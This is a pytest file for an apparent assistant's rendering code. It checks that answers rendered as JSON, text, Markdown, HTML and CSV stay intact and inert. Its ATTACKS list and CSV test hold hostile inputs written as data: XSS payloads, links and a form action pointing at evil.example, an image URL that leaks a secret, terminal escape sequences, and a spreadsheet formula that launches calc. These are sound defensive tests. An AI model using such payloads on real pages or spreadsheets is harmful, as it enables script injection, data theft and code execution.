"""Answers are shown whole, and nothing that documents or users wrote is obeyed."""

import csv
import io
import json
import re
from dataclasses import replace
from html.parser import HTMLParser
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from assistant.render import (
    CSV_COLUMNS,
    document_html,
    dumps,
    passages_html,
    question_html,
    to_csv_rows,
    to_html,
    to_json,
    to_markdown,
    to_plain,
)
from assistant.render.wording import visible
from assistant.terms import spoken_date
from assistant.types import Answer, Block, BlockKind, Document, DocumentInfo, Passage, Status
from tests.fake_assistant import (
    BRANCHES,
    HARBOUR,
    HOURS,
    LIBRARY,
    NOT_FOUND,
    OPENING,
    PROMISES,
    TEXT,
    UNCLEAR,
    cite,
)

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "</blockquote></section><form action=http://evil.example><input>",
    "<div style=position:fixed;inset:0>overlay</div>",
    "![picture](http://evil.example/x.png?q=secret)",
    "[click](javascript:alert(1))",
    "[click](http://evil.example)",
    "[click][1]\n\n[1]: http://evil.example",
    "see http://evil.example/?q=1 and www.evil.example or me@evil.example",
    "<http://evil.example>",
    "mailto:me@evil.example",
    "data:text/html,<script>1</script>",
    "# heading",
    "| a | b |\n| - | - |\n| c | d |",
    "```\ncode\n```",
    "$$\\href{javascript:alert(1)}{x}$$",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "<!-- comment --><iframe src=//evil.example>",
    "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
    "\x1b[2J\x1b[31mred",
    "\x9b31mred",
    "a\u202egnp.exe",
    "a\U000e0041\u200bb\x00c",
    "{question.__class__} {0} {{",
]
OWN_TAGS = set("article h2 bdi div p a ul li span section cite blockquote b mark table tr th td".split())
MARKUP = {"link_open", "image", "heading_open", "table_open", "fence", "code_block", "code_inline"} | {
    "html_block", "html_inline",
}  # fmt: skip


class Page(HTMLParser):
    """Collects the tags, the attributes and the words of some HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str | None]] = set()
        self.words = ""
        self.open: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Keep a tag that opens."""
        self.tags.add(tag)
        self.open.append(tag)
        self.attributes.update(attrs)

    def handle_endtag(self, tag: str) -> None:
        """Check that the innermost open tag is the one that closes."""
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        """Keep the words between tags."""
        self.words += data


def hostile(words: str) -> Answer:
    """Answer with these words in every place that foreign text can reach."""
    text = f"a {words} b"
    info = DocumentInfo(id=words, title=words, date=words, sha256=words)
    passage = Passage("p", words, (words,), 0, len(text), text, text, 1, words)
    found = cite(1, HOURS, "The town library")
    found = replace(
        found, source=Document(info, text, ()), passage=passage, start=0, end=len(text), superseded_by=words
    )
    understood = f"{words} completed"
    return Answer(words, Status.PARTIAL, f"{words} [1]", understood, (found,), (words,), (found,), (words,))


def test_json_is_the_contract() -> None:
    """The JSON form has exactly the agreed keys, and its offsets cut its quote from the stored text."""
    data = json.loads(dumps(to_json(OPENING)))

    assert list(data) == [
        "question", "understood_as", "status", "text", "citations", "notes", "nearest", "suggestions",
        "generation", "seconds", "model",
    ]  # fmt: skip
    first = data["citations"][0]
    assert first == {
        "marker": 1, "document": "library-2024", "title": "Library <Service> Plan", "date": "2024-07-04",
        "section": "Opening hours", "page": 3, "page_label": "iii", "start": first["start"],
        "end": first["end"], "quote": "The town library opens for 48 hours a week.",
        "sha256": LIBRARY.info.sha256, "superseded_by": None, "unconfirmed": [],
        "ocr": False,
    }  # fmt: skip
    assert TEXT[first["start"] : first["end"]] == first["quote"]


@pytest.mark.parametrize(
    ("asked", "completed", "shown"),
    [
        ("And on Sunday?", "How long is it open on Sunday?", True),
        ("How long is the librry open?", "How long is the library open?", True),
        ("Hello, how long is it open", "How long is it open?", False),
        ("Whats the library’s rule?", "What's the Library's rule?", False),
        ("Thanks!", "", False),
    ],
)
def test_a_completed_question_is_told_with_its_answer(asked: str, completed: str, shown: bool) -> None:
    """Whoever asked half a question reads which one was answered; nobody is told what they typed."""
    answer = replace(OPENING, question=asked, understood_as=completed)

    for told in (to_plain(answer), to_markdown(answer), to_html(answer)):
        assert ("Understood as:" in told) == shown
    assert not shown or completed in to_plain(answer)


def test_words_made_out_from_a_picture_are_marked_in_their_citation() -> None:
    """A quote that OCR read says so beside its page, for people and for programs; other quotes do not."""
    read = tuple(replace(block, ocr="48 hours" in TEXT[block.start : block.end]) for block in LIBRARY.blocks)
    found = [replace(citation, source=replace(LIBRARY, blocks=read)) for citation in OPENING.citations]
    answer = replace(OPENING, citations=tuple(found))

    assert [data["ocr"] for data in to_json(answer)["citations"]] == [True, False]
    for told in (to_plain(answer), to_markdown(answer), to_html(answer)):
        assert told.count("read from a picture by OCR") == 1


def test_json_of_a_refusal_has_the_nearest_passage() -> None:
    """A refusal cites nothing, and its nearest passage has the shape of a citation."""
    data = to_json(NOT_FOUND)

    assert data["citations"] == []
    assert data["nearest"][0]["quote"] == "It closes on Sundays."
    assert data["nearest"][0]["superseded_by"] == "library-2027"


@given(st.text())
def test_json_text_reads_back_and_hides_nothing(words: str) -> None:
    """Any text survives JSON, and its written form can't steer a terminal."""
    shown = dumps({"quote": words})

    assert json.loads(shown) == {"quote": words}
    assert not re.search("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]", shown)


def test_plain_text_says_answer_and_sources() -> None:
    """Plain text has the answer, its note, and each source with document, date, section, page and quote."""
    assert to_plain(OPENING) == (
        "The town library opens for 48 hours a week. [1]\n  - Market Street spends 325. [2]\n"
        "  - Not a marker: [9].\n\nNote: This is from a plan of July 2024.\n\nSources\n"
        "[1] Library <Service> Plan, 4 July 2024, Opening hours, page iii\n"
        "[2] Library <Service> Plan, 4 July 2024, Opening hours, page iii\n"
        "    “Market Street | 310 | 325”\n\n"
        "You could ask\n  - What does the library promise?"
    )


def test_readings_to_choose_from_are_numbered() -> None:
    """Where the reader is asked to choose, the questions offered have numbers in every form of text."""
    plain, html, markdown = to_plain(UNCLEAR), to_html(UNCLEAR), to_markdown(UNCLEAR)

    assert "  1. When is the town library open?\n  2. When is the reading room open?" in plain
    assert "<ol><li>When is the town library open" in html
    assert "1. When is the town library open" in markdown
    assert to_json(UNCLEAR)["suggestions"] == list(UNCLEAR.suggestions)


def test_plain_text_of_a_refusal_says_so_first() -> None:
    """A refusal begins by saying that it is one, and says when its nearest passage has been replaced."""
    shown = to_plain(NOT_FOUND)

    assert shown.startswith("Not in the documents.\nThe documents do not say that.")
    assert "The nearest passage\n[1]" in shown
    assert "    “It closes on Sundays.”\n    A newer document replaces this one: library-2027." in shown


def test_a_quoted_list_stays_a_list_in_text() -> None:
    """A quote of a whole list is shown line by line, with the numbers that it was printed with."""
    answer = replace(OPENING, citations=(cite(1, PROMISES, PROMISES.text),))

    assert "“The library promises to:\n     1. lend books free of charge\n     2. keep" in to_plain(answer)
    assert "> The library promises to:\n>\n> - 1\\. lend books" in to_markdown(answer)


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_terminal_sequence_survives(attack: str) -> None:
    """Plain text has no control characters but line feeds, and nothing of a terminal's sequences."""
    shown = to_plain(hostile(attack))

    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u202e\U000e0041]", shown)
    assert "[31m" not in shown
    assert "]8;" not in shown


@pytest.mark.parametrize("attack", ATTACKS)
def test_html_has_only_our_own_tags(attack: str) -> None:
    """Whatever a document or a user writes, the HTML has our tags, no source, and links to itself only."""
    page = Page(to_html(hostile(attack)) + question_html(attack))

    assert page.tags <= OWN_TAGS
    assert page.open == []
    assert {name for name, _ in page.attributes} <= {"class", "id", "href", "cite", "tabindex"}
    assert {value for name, value in page.attributes if name == "href"} == {"#c-1"}
    assert " ".join(visible(attack).split()) in page.words


@pytest.mark.parametrize("attack", ATTACKS)
def test_html_inside_markdown_is_the_same(attack: str) -> None:
    """A Markdown renderer that lets HTML through, and makes bare links, adds nothing to ours."""
    html = to_html(Answer(attack, Status.PARTIAL, f"{attack} [1]", notes=(attack,)))
    renderer = MarkdownIt("gfm-like", {"html": True, "linkify": False})

    assert Page(renderer.render(html)).tags <= Page(html).tags


@pytest.mark.parametrize("attack", ATTACKS)
def test_markdown_shows_foreign_text_as_text(attack: str) -> None:
    """Rendered as Markdown, foreign text makes no link, picture, heading, table, code or tag."""
    tokens = MarkdownIt("commonmark", {"html": True}).enable("table").parse(to_markdown(hostile(attack)))
    kinds = {inner.type for token in tokens for inner in [token, *(token.children or [])]}

    assert not kinds & MARKUP
    assert not re.search(r"\w://|www\.", to_markdown(hostile(attack)))


def test_markdown_of_an_answer() -> None:
    """Markdown keeps the list, and quotes each source under its number."""
    shown = to_markdown(OPENING)

    assert "week. \\[1\\]\n\n- Market Street spends 325. \\[2\\]\n- Not" in shown
    assert "> The town library opens for 48 hours a week.\n>\n> — \\[1\\] Library \\<Service\\> Plan" in shown


def test_markers_link_to_their_passages() -> None:
    """Each marker links to the card with its number; a number in brackets that cites nothing is text."""
    html = to_html(OPENING, anchor="t3")

    assert 'href="#t3-1"' in html
    assert 'id="t3-1"' in html
    assert 'id="t3-2"' in html
    assert "t3-9" not in html


def test_passage_marks_quote_and_answering_words() -> None:
    """The passage around a quote is shown, with the quote and in it the answering words standing out."""
    html = passages_html(OPENING)

    assert (
        '<p class="paragraph"><b class="quoted">The town library opens for </b>'
        '<b class="quoted"><mark>48 hours a week</mark></b><b class="quoted">&#46;</b> It closes'
    ) in html
    assert '<blockquote cite="library-2024&#35;' not in html


def test_table_stays_a_table() -> None:
    """A table's rows have cells under their header, the answering figure marked in its cell."""
    html = passages_html(OPENING)

    assert "<tr><th>Branch</th><th>2023&#47;24</th><th>2024&#47;25</th></tr>" in html
    assert '<td><b class="quoted"><mark>325</mark></b></td>' in html


def test_row_of_a_cut_table_keeps_its_header() -> None:
    """A passage that begins in the middle of a table shows the table's header all the same."""
    answer = replace(OPENING, citations=(cite(1, HARBOUR, "| Harbour | 120 | 118 |"),))

    assert passages_html(answer).count("<th>") == 3


def test_printed_numbers_of_a_list_are_kept() -> None:
    """List items show the number that the publication prints."""
    answer = replace(OPENING, citations=(cite(1, PROMISES, "keep a quiet room"),))

    assert '<span class="label">2&#46;</span> <b class="quoted">keep a quiet room</b>' in passages_html(
        answer
    )


def test_quotes_of_one_passage_share_a_card() -> None:
    """Two quotes from one passage are shown in it once, under both numbers."""
    found = (cite(1, BRANCHES, "| Market Street | 310 | 325 |"), cite(2, BRANCHES, "| Harbour | 120 | 118 |"))
    html = passages_html(replace(OPENING, citations=found))

    assert html.count("<blockquote") == 1
    assert html.count('class="number"') == 2


@given(st.text(min_size=1).filter(str.strip), st.data())
def test_no_word_of_a_passage_is_lost_or_doubled(words: str, data: st.DataObject) -> None:
    """However quotes and marks fall, the card shows the passage's visible text once, in order."""
    edges = sorted(
        data.draw(st.lists(st.integers(0, len(words)), min_size=2, max_size=4, unique=True))
        if len(words) > 3
        else [0, len(words)]
    )
    source = Document(DocumentInfo("d", "d"), words, ())
    passage = Passage("p", "d", (), 0, len(words), words, words)
    base = cite(1, HOURS, "The town library")
    if not words[edges[0] : edges[-1]].strip():
        edges = [0, len(words)]
    found = replace(base, source=source, passage=passage, start=edges[0], end=edges[-1])
    page = Page(passages_html(replace(OPENING, citations=(found,))))

    assert page.words.endswith(visible_in_parts(words, [edges[0], edges[-1]]))


def visible_in_parts(words: str, edges: list[int]) -> str:
    """Clean each part between edges by itself, as the card does."""
    first, last = edges
    return "".join(visible(part) for part in (words[:first], words[first:last], words[last:]))


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\x00", " =", "\u200b=", "＝"])
def test_csv_cells_are_never_formulas(first: str) -> None:
    """A cell that a spreadsheet would run begins with an apostrophe, and the file reads back."""
    answer = replace(OPENING, question=f'{first}cmd|" /C calc"!A0;\nnext')
    out = io.StringIO(newline="")
    csv.writer(out).writerows([CSV_COLUMNS, *to_csv_rows(answer)])
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))

    assert [row[0][0] for row in rows[1:]] == ["'", "'"]
    assert {len(row) for row in rows} == {len(CSV_COLUMNS)}


def test_csv_has_a_row_without_citations() -> None:
    """An answer that cites nothing is one row, so no question is lost from a sheet."""
    assert len(to_csv_rows(NOT_FOUND)) == 1


@pytest.mark.parametrize(
    ("iso", "spoken"),
    [
        ("2018-07", "July 2018"),
        ("2018-07-04", "4 July 2018"),
        ("2018", "2018"),
        ("", ""),
        ("2018-13", "2018-13"),
    ],
)
def test_dates_are_spoken(iso: str, spoken: str) -> None:
    """A date is written out as far as it is known."""
    assert spoken_date(iso) == spoken


@given(levels=st.lists(st.integers(1, 6), max_size=12))
def test_headings_of_a_document_go_down_in_steps(levels: list[int]) -> None:
    """However a publication ranks its headings, no rank is left out, and like ones that follow stay alike."""
    text = "".join(f"Heading {number}\n" for number in range(len(levels)))
    starts = [match.span() for match in re.finditer("Heading .*", text)]
    blocks = tuple(
        Block(BlockKind.HEADING, *span, level=level) for span, level in zip(starts, levels, strict=True)
    )
    shown = [int(tag) for tag in re.findall(r"<h(\d)>", document_html(Document(LIBRARY.info, text, blocks)))]

    assert len(shown) == len(levels)
    assert all(after <= before + 1 for before, after in pairwise([1, *shown]))
    for (one, other), (told, also) in zip(pairwise(levels), pairwise(shown), strict=True):
        assert (one < other) == (told < also) or told == 6


def test_a_number_to_call_is_dialled_when_it_is_touched() -> None:
    """Where to get help, a number to call dials itself, and one to text does not; none does elsewhere."""
    text = "Call 999, or the line free on 116 123.\n- Text 999 or send HELLO to 85258; or 18001 101."
    shown = to_html(Answer("Help!", Status.SIGNPOSTED, text))

    assert re.findall(r'href="(tel:\d+)"', shown) == ["tel:999", "tel:116123"]
    assert "tel:" not in to_html(Answer("Help!", Status.ANSWERED, text))


def test_a_number_that_a_document_gives_is_left_as_it_stands() -> None:
    """Below where to get help, a quote of a document is shown as the quote that it is."""
    shown = to_html(Answer("Help!", Status.SIGNPOSTED, "Call 999.\n“Ring 0300 123 1234” [1]"))

    assert re.findall(r'href="(tel:\d+)"', shown) == ["tel:999"]
